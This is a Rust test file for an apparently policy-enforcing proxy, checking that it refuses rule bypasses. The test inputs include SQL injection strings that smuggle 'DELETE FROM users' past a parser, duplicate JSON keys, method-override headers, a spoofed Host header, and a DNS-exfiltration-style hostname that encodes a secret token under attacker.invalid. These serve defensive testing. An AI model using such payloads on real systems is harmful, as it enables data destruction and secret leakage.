//! Issue 14 review: ways around the rules that the first round left open, each sent through real
//! sockets (raw TCP where a client would tidy the attack away).

use std::time::Duration;

use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::support::{TestPki, TestProxy, connect_tunnel, origin};

const RULES: &str = r#"
rules:
  - id: connect-all
    trigger: connect
    effect: allow
  - id: http-all
    trigger: http.request
    effect: allow
  - id: reads-only
    trigger: data.access
    when: "data.statements.exists(s, s != 'select')"
    effect: deny
  - id: reads-allowed
    trigger: data.access
    effect: allow
"#;

/// Sends `request` as written and returns the answer's status line and head.
async fn raw(proxy: &TestProxy, request: &str) -> String {
    let mut stream = TcpStream::connect(proxy.addr).await.unwrap();
    stream.write_all(request.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    let mut chunk = [0u8; 4096];
    while !answer.windows(4).any(|w| w == b"\r\n\r\n") {
        let read = tokio::time::timeout(Duration::from_secs(10), stream.read(&mut chunk)).await;
        let Ok(Ok(n)) = read else { break };
        if n == 0 {
            break;
        }
        answer.extend_from_slice(&chunk[..n]);
    }
    String::from_utf8_lossy(&answer).into_owned()
}

#[tokio::test]
async fn sql_hidden_from_the_parser_or_behind_a_repeated_key_is_refused() {
    let pki = TestPki::new();
    let origin = origin::start_tls(&pki).await;
    let proxy = TestProxy::with_policy(&pki, RULES).await;
    let client = proxy.client(true);
    let mcp = format!("https://localhost:{}/mcp", origin.port());
    let call = |sql: &str| json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "run_sql", "arguments": {"sql": sql}}});
    // One SELECT to the generic parser; MySQL or PostgreSQL would run the DELETE too.
    for sql in [
        "SELECT 'x\\''; DELETE FROM users; -- '",
        "SELECT 1 --1; DELETE FROM users",
        "SELECT 1 /* /* */; DELETE FROM users; -- */",
        // Writes that begin like reads.
        "SELECT * INTO stolen FROM users WHERE id = 1",
    ] {
        let answer = client.post(&mcp).json(&call(sql)).send().await.unwrap();
        assert_eq!(answer.status(), 403, "{sql}");
    }
    // The value a first-wins server reads is the DELETE; serde keeps the SELECT.
    let repeated = r#"{"sql": "DELETE FROM users", "sql": "SELECT id FROM users WHERE id = 1"}"#;
    let mirror = format!("https://localhost:{}/mirror", origin.port());
    let answer = client
        .post(&mirror)
        .header("content-type", "application/json")
        .body(repeated)
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 403);
    assert!(
        answer
            .text()
            .await
            .unwrap()
            .contains("names a member twice")
    );
    let read = client
        .post(&mcp)
        .json(&call(
            "SELECT name FROM t WHERE note = 'it''s; fine' LIMIT 1",
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(read.status(), 200, "plain SQL still passes");
}

#[tokio::test]
async fn a_postgrest_insert_that_merges_duplicates_is_an_update() {
    let pki = TestPki::new();
    let origin = origin::start_tls(&pki).await;
    let rules = r#"
rules:
  - id: connect-all
    trigger: connect
    effect: allow
  - id: http-all
    trigger: http.request
    effect: allow
  - id: no-updates
    trigger: data.access
    when: "data.statements.exists(s, s == 'update')"
    effect: deny
  - id: data-allowed
    trigger: data.access
    effect: allow
"#;
    let proxy = TestProxy::with_policy(&pki, rules).await;
    let url = format!("https://localhost:{}/rest/v1/accounts", origin.port());
    let insert = proxy
        .client(true)
        .post(&url)
        .json(&json!({"id": 1, "balance": 0}))
        .send()
        .await
        .unwrap();
    assert_eq!(insert.status(), 200, "a plain insert is no update");
    let upsert = proxy
        .client(true)
        .post(&url)
        .header("prefer", "return=minimal")
        .header("prefer", "resolution=merge-duplicates")
        .json(&json!({"id": 1, "balance": 0}))
        .send()
        .await
        .unwrap();
    assert_eq!(upsert.status(), 403);
    assert!(upsert.text().await.unwrap().contains("no-updates"));
}

#[tokio::test]
async fn a_method_override_naming_another_method_is_refused() {
    let pki = TestPki::new();
    let origin = origin::start_plain().await;
    let proxy = TestProxy::with_policy(&pki, RULES).await;
    let port = origin.port();
    for (name, value, status) in [
        ("X-HTTP-Method-Override", "DELETE", "400"),
        ("X-HTTP-Method", "delete", "400"),
        ("X-Method-Override", "PUT", "400"),
        ("X-HTTP-Method-Override", "POST", "200"),
    ] {
        let answer = raw(
            &proxy,
            &format!("POST http://127.0.0.1:{port}/mirror HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n{name}: {value}\r\nContent-Length: 0\r\n\r\n"),
        )
        .await;
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {status}")),
            "{name}: {value}: {answer}"
        );
    }
}

#[tokio::test]
async fn a_host_a_condition_rules_out_is_not_looked_up() {
    let pki = TestPki::new();
    let proxy = TestProxy::with_policy(
        &pki,
        r#"
rules:
  - id: corp-private
    trigger: connect
    when: "request.host.endsWith('.corp.invalid') && destination.private"
    effect: allow
"#,
    )
    .await;
    // The name does not resolve: a look-up ends in 502, the rules alone in 403.
    let (status, head, _) =
        connect_tunnel(proxy.addr, "c2VjcmV0LXRva2Vu.attacker.invalid:443", None).await;
    assert_eq!(status, 403, "{head}");
    let (status, head, _) = connect_tunnel(proxy.addr, "db.corp.invalid:443", None).await;
    assert_eq!(
        status, 502,
        "a host the rule could admit is looked up: {head}"
    );
}

#[tokio::test]
async fn http2_heads_cannot_repeat_singletons_override_methods_or_disagree_on_the_host() {
    use http_body_util::{BodyExt, Empty};

    let pki = TestPki::new();
    let origin = origin::start_tls(&pki).await;
    let proxy = TestProxy::with_policy(&pki, RULES).await;
    let target = format!("localhost:{}", origin.port());
    let (status, _, stream) = connect_tunnel(proxy.addr, &target, None).await;
    assert_eq!(status, 200);
    let tls = crate::support::tls_over(stream, "localhost", &proxy.ca_pem, &[b"h2"]).await;
    let (mut sender, conn) = hyper::client::conn::http2::handshake(
        hyper_util::rt::TokioExecutor::new(),
        hyper_util::rt::TokioIo::new(tls),
    )
    .await
    .unwrap();
    tokio::spawn(conn);
    let url = format!("https://{target}/mirror");
    let cases: [(&[(&str, &str)], u16); 5] = [
        (
            &[("authorization", "Bearer a"), ("authorization", "Bearer b")],
            400,
        ),
        (
            &[
                ("content-type", "text/plain"),
                ("content-type", "application/json"),
            ],
            400,
        ),
        (&[("x-http-method-override", "DELETE")], 400),
        (&[("host", "evil.example")], 421),
        (&[("accept", "a"), ("accept", "b")], 200),
    ];
    for (headers, expected) in cases {
        let mut request = http::Request::post(&url);
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        let request = request.body(Empty::<bytes::Bytes>::new()).unwrap();
        let response = sender.send_request(request).await.unwrap();
        assert_eq!(response.status(), expected, "{headers:?}");
        let _ = response.into_body().collect().await;
    }
}
